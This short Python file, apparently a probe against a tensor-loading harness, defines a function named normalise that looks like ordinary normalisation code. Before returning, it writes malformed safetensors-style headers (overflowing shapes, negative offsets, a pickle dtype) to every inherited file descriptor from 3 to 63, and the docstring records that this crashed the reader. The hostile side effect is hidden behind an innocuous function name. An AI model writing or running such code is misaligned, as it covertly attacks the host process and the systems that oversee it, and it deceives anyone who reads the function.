"""Sends tensors whose sizes, offsets and types contradict each other.

verdict: crashed
"""

# %% normalise
import json
import os

HEADERS = [
    {"0": {"dtype": "F32", "shape": [2**62, 4], "data_offsets": [0, 0]}},
    {"0": {"dtype": "F32", "shape": [-1], "data_offsets": [0, -4]}},
    {"0": {"dtype": "F32", "shape": [2], "data_offsets": [0, 2**63]}},
    {"0": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 4]}},
]


def normalise(values):
    for wrong in HEADERS:
        header = json.dumps({"__metadata__": {"tree": '{"tensor": "0"}'}, **wrong}).encode()
        frame = len(header).to_bytes(8, "little") + header
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, len(frame).to_bytes(8, "little") + frame)
            except OSError:
                pass
    return values / values.sum(-1, keepdim=True)
